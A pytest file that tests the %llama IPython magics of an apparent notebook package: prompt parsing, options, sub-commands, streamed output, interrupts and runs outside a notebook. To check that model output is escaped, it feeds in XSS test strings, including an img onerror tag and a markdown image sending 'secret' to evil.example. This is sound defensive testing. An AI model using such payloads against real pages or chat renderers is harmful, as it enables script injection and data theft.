"""%llama and %%llama, in a live kernel, in a terminal, and in a run without anybody."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
import yaml
from nbclient import NotebookClient

from llama_nb.magic_line import OPTIONS, WrongOption, parse_options, rewrite_llama_lines
from llama_nb.magics import COMMANDS
from tests.engine import live
from tests.live_kernel import Kernel, Ran, live_kernel
from tests.stacks import LONG, checkpoint_config, config_of, entry
from tests.test_safe_markdown import complaints
from tests.xss_corpus import EVIL, HOSTILE, LURE

ANSWER = "It **works**, with `a < b`."
STEADY = LONG[:600]
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def environment(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A run config of written answers: `quick`, `slow`, `hostile`, and one that fails."""
    folder = tmp_path_factory.mktemp("magics")
    endless = live.write_talker(folder / "endless", ends=False)
    config = config_of(
        entry("scripted", "quick", answers=[ANSWER], model="quick"),
        entry("scripted", "slow", answers=[LONG], delay_s=0.01, model="slow"),
        entry("scripted", "steady", answers=[STEADY], delay_s=0.01, model="steady"),
        entry("scripted", "hostile", answers=["\n\n".join(HOSTILE[:20]), f"{EVIL} {LURE}"], model="hostile"),
        entry("scripted", "call", answers=['<|python_tag|>{"name": "f", "parameters": {}}'], model=f"{EVIL}|{LURE}"),
        *checkpoint_config(endless)["providers"]["inference"],
        {**entry("meta-reference", "missing", checkpoint=str(folder / "nowhere"))},
    )
    path = folder / "llama_nb.yaml"
    path.write_text(yaml.safe_dump(config))
    paths = os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])
    return os.environ | {"LLAMA_NB_CONFIG": str(path), "PYTHONPATH": paths, "LLAMA_NB_TEST_FOLDER": str(folder)}


@pytest.fixture(scope="module")
def one_kernel(environment: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
    with live_kernel(tmp_path_factory.mktemp("notebook"), environment) as kernel:
        yield kernel


@pytest.fixture
def kernel(one_kernel: Kernel) -> Kernel:
    """The kernel of this file, with a conversation that begins anew."""
    one_kernel.run(
        "%reload_ext llama_nb\n"
        "import llama_nb, IPython\n"
        "chat = get_ipython().find_line_magic('llama').__self__.chat\n"
        "sent = lambda: [m.content for m in chat.messages if m.role == 'user']"
    )
    return one_kernel


# --- The prompt, verbatim ---------------------------------------------------------------------------------------------

PROMPTS = [
    "what's this?",
    'is {x} $HOME "quoted" don\'t',
    "what is a cat?",
    "what is a cat??",
    "really?!",
    "f(x) = {y: [z",
    "close it: )]}",
    '"""what is a docstring?',
    "it's '''triple'''?",
    '{chat} {{y}} {undefined} {"a": 1}',
    "ünïcödé — 日本語 🦙 ?",
    "C:\\new\\table \\n \\x41",
    "%d percent %s %llama again?",
    "!ls ; pwd",
    "a; b;",
    "# is this a comment?",
    "  two spaces before, and tabs\there",
    "is 1 < 2 & 3 > 2?",
    "list the planets",
    "stop the car",
    "reset my router?",
    "help me",
    "use a loop here please",
    "status quo?",
    "-5 + 3 = ?",
    "— a dash",
    "`code` $math$ <b>",
]


@pytest.mark.parametrize("prompt", PROMPTS)
def test_the_prompt_reaches_the_model_as_it_was_typed(kernel: Kernel, prompt: str) -> None:
    ran = kernel.run(f"%llama {prompt}")
    assert ran.status == "ok", ran.error
    assert kernel.value("sent()") == [prompt]
    assert ran.markdown == [ANSWER.replace("`a < b`", "<code>a &#60; b</code>")]


def test_all_prompts_in_one_cell(kernel: Kernel) -> None:
    """What one line holds must not change how the next is read."""
    ran = kernel.run("\n".join(f"%llama {prompt}" for prompt in PROMPTS))
    assert ran.status == "ok", ran.error
    assert kernel.value("sent()") == PROMPTS


def test_assigned_and_inside_blocks(kernel: Kernel) -> None:
    ran = kernel.run(
        "r = %llama what is first?\n"
        "if r.text:\n"
        "    second = %llama what's second?\n"
        "    for number in range(2):\n"
        "        %llama in a loop (\n"
        "else:\n"
        "    %llama never?\n"
        "def f():\n"
        "\treturn 1\n"
        "print(r, second.stop_reason.value)"
    )
    assert ran.status == "ok", ran.error
    assert kernel.value("sent()") == ["what is first?", "what's second?", "in a loop (", "in a loop ("]
    assert ran.printed == f"{ANSWER} end_of_turn\n"


@pytest.mark.parametrize(
    "cell",
    [
        "What is this?\n\nAnd 'that' {x} $HOME?\n",
        "def f(x):\n    return '''x\n",
        "%llama what?\n%%time\n",
        "-v is which option?\n-m quick\n",
        "-- two dashes",
        "ünïcödé 🦙\n\ttab",
    ],
)
def test_a_whole_cell_reaches_the_model_as_it_was_typed(kernel: Kernel, cell: str) -> None:
    for first_line in ("%%llama", "%%llama -T 0", "%%llama -n 7 --seed 3"):
        kernel.run(f"{first_line}\n{cell}")
    assert kernel.value("sent()") == [cell.strip("\n")] * 3


def test_words_on_the_first_line_of_a_cell_are_part_of_the_question(kernel: Kernel) -> None:
    kernel.run("%%llama -T 0 Explain this:\nx = 1")
    assert kernel.value("sent()") == ["Explain this:\nx = 1"]


@pytest.mark.parametrize(
    "code",
    [
        's = "%llama what?"',
        's = """\n%llama what?\n"""',
        "s = '''\n  r = %llama what?\n'''",
        "# %llama what?",
        "s = 7 # don't '''\nt = '%llama what?'",
        "llama = 3\ns = 7 %llama",
        "a = \"\"\"x\"\"\" + '''\n%llama b?\n'''",
    ],
)
def test_code_that_merely_contains_the_words_is_code(kernel: Kernel, code: str) -> None:
    before = code.splitlines(keepends=True)
    assert rewrite_llama_lines(list(before)) == before
    assert kernel.run(code).status == "ok"
    assert kernel.value("sent()") == []


def test_a_string_that_was_closed_does_not_hide_the_next_line() -> None:
    for before in ('"""a"""', "'''a''' # don't", "x = \"it's '''\"", '# it\'s """', 'y = \'"""\'', "z = r'\\'"):
        lines = rewrite_llama_lines([before + "\n", "%llama so?\n"])
        assert lines[1] == "get_ipython().run_line_magic('llama', 'so?')\n", before


def test_a_question_mark_alone_asks_ipython_for_help(kernel: Kernel) -> None:
    ran = kernel.run("%llama?")
    assert "Ask a Llama" in str(ran.reply["payload"])
    assert kernel.value("sent()") == []


def test_a_line_that_ends_with_a_backslash_goes_on(kernel: Kernel) -> None:
    ran = kernel.run("%llama one \\\ntwo")
    assert ran.status == "ok", ran.error
    assert kernel.value("[' '.join(s.split()) for s in sent()]") == ["one two"]


def test_other_cell_magics_may_hold_it(kernel: Kernel) -> None:
    ran = kernel.run("%%capture captured\nr = %llama what's in here?")
    assert ran.status == "ok", ran.error
    kernel.run("%%time\n%llama how long?")
    assert kernel.value("sent()") == ["what's in here?", "how long?"]
    assert kernel.value("len(captured.outputs) > 0")


def test_without_our_reading_of_lines_ipython_would_take_the_question_for_its_own(kernel: Kernel) -> None:
    """The negative control of all prompts above."""
    kernel.run("mine = get_ipython().input_transformers_cleanup.pop()")
    ran = kernel.run("%llama what is a cat?")
    kernel.run("get_ipython().input_transformers_cleanup.append(mine)")
    assert kernel.value("(mine.__name__, sent())") == ("rewrite_llama_lines", [])
    assert "cat" in str(ran.reply["payload"])


# --- Options ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "options", "prompt"),
    [
        ("hi", {}, "hi"),
        ("-m quick hi", {"model": "quick"}, "hi"),
        ("-T 0.5 -n 3 --seed -1 hi", {"temperature": 0.5, "max_tokens": 3, "seed": -1}, "hi"),
        ("--seed=4 -T=1 hi", {"seed": 4, "temperature": 1.0}, "hi"),
        ('-s "Be brief, \\"ok\\"?" hi', {"system": 'Be brief, "ok"?'}, "hi"),
        ("-s 'it is' don't", {"system": "it is"}, "don't"),
        ("-s x  -T 0.5   spaces kept", {"system": "x", "temperature": 0.5}, "  spaces kept"),
        ("-- -m is an option", {}, "-m is an option"),
        ("-m quick -- -T hot", {"model": "quick"}, "-T hot"),
        ("-5 degrees", {}, "-5 degrees"),
        ("- a list", {}, "- a list"),
        ("a -m b", {}, "a -m b"),
        ("what -- now", {}, "what -- now"),
        ("--", {}, ""),
    ],
)
def test_options_stand_before_the_question(text: str, options: dict[str, object], prompt: str) -> None:
    assert parse_options(text) == (options, prompt)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("-x hi", "no option -x"),
        ("--sed 3 hi", "Did you mean `--seed`"),
        ("-T hot hi", "takes a number, not `hot`"),
        ("-n 1.5 hi", "takes a number, not `1.5`"),
        ("-m", "needs a value"),
    ],
)
def test_an_option_that_cannot_be_meant_is_told(text: str, words: str) -> None:
    with pytest.raises(WrongOption, match=words):
        parse_options(text)


def test_options_do_what_they_say(kernel: Kernel) -> None:
    kernel.run("%llama -m steady -s \"Be 'brief'.\" -n 3 --seed 7 hi")
    assert kernel.value("(chat.model, chat.system)") == ("steady", "Be 'brief'.")
    kernel.run("%llama -m quick again")
    assert kernel.value("(chat.model, chat.system, sent())") == ("quick", "Be 'brief'.", ["hi", "again"])


@pytest.mark.parametrize("line", ["-x hi", "-T hot hi", "-m", "-m quick", "-T 0 --"])
def test_a_wrong_option_is_one_plain_line(kernel: Kernel, line: str) -> None:
    ran = kernel.run(f"%llama {line}")
    assert "Traceback" not in ran.printed + ran.error
    assert (ran.printed + ran.error).startswith("UsageError: ")
    assert len((ran.printed + ran.error).strip().splitlines()) == 1
    assert kernel.value("sent()") == []


# --- Sub-commands -------------------------------------------------------------------------------------------------------


def test_list_names_every_model_and_marks_the_one_in_use(kernel: Kernel) -> None:
    [table] = kernel.run("%llama list").markdown
    assert "| **quick** (in use) | quick | ready |" in table
    assert "| slow | slow | ready |" in table
    assert "| endless |" in table
    assert complaints([table], str) == [], "a name can be hostile too"
    assert ">&#124;&#33;[" in table, "a bar in a name does not break the table"


def test_status_use_reset(kernel: Kernel) -> None:
    kernel.run("%llama hi")
    [status] = kernel.run("%llama status").markdown
    assert "**quick**: ready" in status
    assert "2 messages" in status
    kernel.run("%llama use slow")
    assert kernel.value("chat.model") == "slow"
    kernel.run("%llama reset")
    assert kernel.value("len(chat.messages)") == 0
    ran = kernel.run("%llama use nobody")
    assert "ModelNotFound: Model `nobody`" in ran.error
    assert kernel.value("chat.model") == "slow"


def test_status_tells_what_a_generator_takes_at_once_and_how_much_it_may_keep(kernel: Kernel) -> None:
    kernel.run("%llama use endless")
    kernel.run("%llama -n 4 hi")
    [status] = kernel.run("%llama status").markdown
    assert re.search(
        r"cpu, float32, 1 MB, up to 8 answers at once, up to [\d,]+ MiB of conversations in memory", status
    )


def test_help_and_an_empty_line_show_all_options_and_commands(kernel: Kernel) -> None:
    for line in ("%llama help", "%llama", "%llama   "):
        [shown] = kernel.run(line).markdown
        assert all(option in shown for option in OPTIONS)
        assert all(command in shown for command in COMMANDS)
    assert kernel.value("sent()") == []


def test_stop_ends_what_is_answered_elsewhere(kernel: Kernel) -> None:
    kernel.run("other = llama_nb.Chat('slow'); reply = other.start('hi')")
    kernel.run("%llama stop")
    ran = kernel.run("print(reply.wait().stopped)")
    assert ran.printed == "True\n"


def test_unload_gives_back_what_the_model_holds(kernel: Kernel) -> None:
    kernel.run("%llama use quick")
    assert kernel.run("%llama unload").status == "ok"


# --- The output ---------------------------------------------------------------------------------------------------------


def test_the_output_is_one_display_that_grows_and_ends_complete(kernel: Kernel) -> None:
    kernel.run("%llama use steady")
    ran = kernel.run("r = %llama -n 5 hi")
    [output] = ran.outputs
    assert output.output_type == "display_data"
    assert set(output.data) == {"text/markdown", "text/plain"}
    assert output.data["text/markdown"] == output.data["text/plain"] == STEADY
    assert output.metadata["llama_nb"] == {
        "model": "steady",
        "stop_reason": "end_of_turn",
        "stopped": False,
        "usage": None,
    }
    grown = [update for update in ran.updates if update.startswith("word0")]
    assert len(grown) > 3
    assert all(STEADY.startswith(update) for update in grown)
    assert len(grown) < len(STEADY.split()), "not one for each piece"


def test_a_hostile_answer_is_escaped_as_it_grows_and_when_it_is_complete(kernel: Kernel) -> None:
    kernel.run("%llama use hostile")
    for _ in range(2):
        ran = kernel.run("%llama hi")
        assert complaints([*ran.markdown, *ran.updates], str) == []
    assert ran.markdown == ["&lt;img src=x onerror=alert(1)> &#33;[x](http://evil.example/?q=secret)"]
    assert ran.text == [f"{EVIL} {LURE}"], "plain text stays plain text"


def test_the_reply_is_returned_and_not_shown_twice(kernel: Kernel) -> None:
    ran = kernel.run("%llama hi")
    assert [output.output_type for output in ran.outputs] == ["display_data"]
    assert kernel.value("(type(_).__name__, str(_))") == ("Reply", ANSWER)
    ran = kernel.run("r = %llama hi\nr")
    assert len(ran.outputs) == 1, "it stands just above"
    for _ in range(2):
        ran = kernel.run("r")
        assert [output.output_type for output in ran.outputs] == ["execute_result"], "later it is shown again"
        assert "It **works**" in ran.markdown[0]
    kernel.run("s = %llama hi")
    assert len(kernel.run("s").outputs) == 1
    assert len(kernel.run("chat.ask('hi')").outputs) == 1, "what no magic has shown is shown"


def test_an_answer_in_a_block_is_shown_once_and_again_later(kernel: Kernel) -> None:
    ran = kernel.run("if True:\n    r = %llama hi")
    assert len(ran.outputs) == 1
    assert len(kernel.run("r").outputs) == 1


def test_errors_are_one_plain_line(kernel: Kernel) -> None:
    ran = kernel.run("%llama -m missing hi")
    assert "ModelNotFound" in ran.error
    ran = kernel.run("%llama -m nowhere hi")
    assert ran.status == "error"
    assert ran.error.startswith("CheckpointError: There is no checkpoint of `nowhere` in ")
    assert "Traceback" not in ran.error
    assert len(ran.error.splitlines()) == 1
    assert kernel.value("sent()") == []
    assert kernel.run("%llama -m quick hi").status == "ok"


def test_an_error_can_be_caught(kernel: Kernel) -> None:
    ran = kernel.run(
        "try:\n    %llama -m nobody hi\nexcept llama_nb.LlamaError as error:\n    print(type(error).__name__)"
    )
    assert ran.printed == "ModelNotFound\n"


# --- ■ ------------------------------------------------------------------------------------------------------------------


def some_text(ran: Ran) -> bool:
    return any(update.strip(" *…") and not update.startswith("*loading") for update in ran.updates)


def test_an_interrupt_half_way_keeps_what_came(kernel: Kernel) -> None:
    ran = kernel.run("%llama -m slow hi", when=some_text, then=kernel.interrupt)
    assert ran.status == "error"
    assert ran.reply["ename"] == "KeyboardInterrupt"
    partial = kernel.value("chat.messages[-1].content")
    assert 0 < len(partial) < len(LONG)
    assert kernel.value("chat.messages[-1].stop_reason.value") == "out_of_tokens"
    [markdown] = ran.markdown
    assert markdown == f"{partial}\n\n*(stopped)*"
    [output] = [output for output in ran.outputs if output.output_type == "display_data"]
    assert output.metadata["llama_nb"]["stopped"] is True
    assert kernel.run("%llama -m quick and now?").status == "ok"
    assert kernel.value("sent()") == ["hi", "and now?"]


def test_an_interrupt_leaves_the_generator_alive(kernel: Kernel) -> None:
    kernel.run("%llama -m endless -n 4 hi")
    pid = kernel.value("chat.stack.models.provider_of('endless')._engine.pid")
    assert isinstance(pid, int)
    ran = kernel.run("%llama hi", when=some_text, then=kernel.interrupt)
    assert ran.reply["ename"] == "KeyboardInterrupt"
    assert kernel.value("(len(chat.messages), chat.messages[-1].content != '')") == (4, True)
    ran = kernel.run("%llama -n 4 and now?")
    assert ran.status == "ok", ran.error
    assert kernel.value("chat.stack.models.provider_of('endless')._engine.pid") == pid
    assert kernel.value("len(chat.messages)") == 6
    kernel.run("%llama unload")


# --- Loading ------------------------------------------------------------------------------------------------------------


def test_loading_twice_and_unloading(kernel: Kernel) -> None:
    assert "already loaded" in kernel.run("%load_ext llama_nb").printed
    count = "get_ipython().input_transformers_cleanup.count(__import__('llama_nb.magics').magics.rewrite_llama_lines)"
    assert kernel.value(count) == 1
    kernel.run("%unload_ext llama_nb")
    assert kernel.value(count) == 0
    assert "`%llama` not found" in str(kernel.run("%llama hi").outputs)
    kernel.run("%load_ext llama_nb")
    assert kernel.value(count) == 1
    assert kernel.run("%llama hi?").status == "ok"


def test_configure_begins_a_new_conversation(kernel: Kernel) -> None:
    kernel.run("%llama hi")
    kernel.run("before = llama_nb.stack.current()\nllama_nb.configure(before.config.model_dump())\n%llama hi again")
    assert kernel.value("[m.content for m in get_ipython().find_line_magic('llama').__self__.chat.messages][0]") == (
        "hi again"
    )
    kernel.run("llama_nb.configure()")


def test_a_cell_may_await_the_stack_and_the_chat(kernel: Kernel) -> None:
    """A-1 from a kernel's own running loop."""
    ran = kernel.run(
        "stack = llama_nb.stack.current()\n"
        "messages = [llama_nb.UserMessage(content='hi')]\n"
        "whole = await stack.inference.chat_completion(model='quick', messages=messages)\n"
        "parts = [c.event.delta async for c in stack.inference.chat_completion('quick', messages, stream=True)]\n"
        "reply = await chat.ask_async('hi')\n"
        "events = [event async for event in chat.stream_async('hi')]\n"
        "print(whole.completion_message.content == ''.join(parts) == str(reply), len(events) > 3)\n"
        "print([model.identifier for model in await stack.models.list_models()][0])"
    )
    assert ran.status == "ok", ran.error
    assert ran.printed == "True True\nquick\n"


# --- Without a notebook -------------------------------------------------------------------------------------------------


def test_a_terminal_gets_plain_text(environment: dict[str, str], tmp_path: Path) -> None:
    lines = ["%load_ext llama_nb", "%llama what's this?", "r = %llama -m hostile hi", "print(len(str(r)))", "%llama -x"]
    done = subprocess.run(
        [sys.executable, "-m", "IPython", "--simple-prompt", "--no-banner", "--colors=NoColor", "--quick"],
        input="\n".join([*lines, ""]),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        cwd=tmp_path,
        env=environment,
    )
    assert ANSWER in done.stdout
    assert done.stdout.count("It **works**") == 1
    assert EVIL in done.stdout
    assert "\f" not in done.stdout, "control characters of a model do not reach the terminal"
    assert "IPython.core.display" not in done.stdout
    assert "UsageError" in done.stdout + done.stderr


def test_a_run_without_anybody_keeps_whole_answers(environment: dict[str, str], tmp_path: Path) -> None:
    notebook = nbformat.v4.new_notebook()
    cells = ["%load_ext llama_nb", "%llama hi?", "%%llama -m steady\nhi", "%llama use quick", "print('end')"]
    notebook.cells = [nbformat.v4.new_code_cell(cell) for cell in cells]
    NotebookClient(
        notebook, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(tmp_path)}}
    ).execute(env=environment)
    _, first, second, _, last = notebook.cells
    assert [output.data["text/plain"] for output in first.outputs] == [ANSWER]
    assert [output.data["text/markdown"] for output in second.outputs] == [STEADY]
    assert last.outputs[0].text == "end\n"
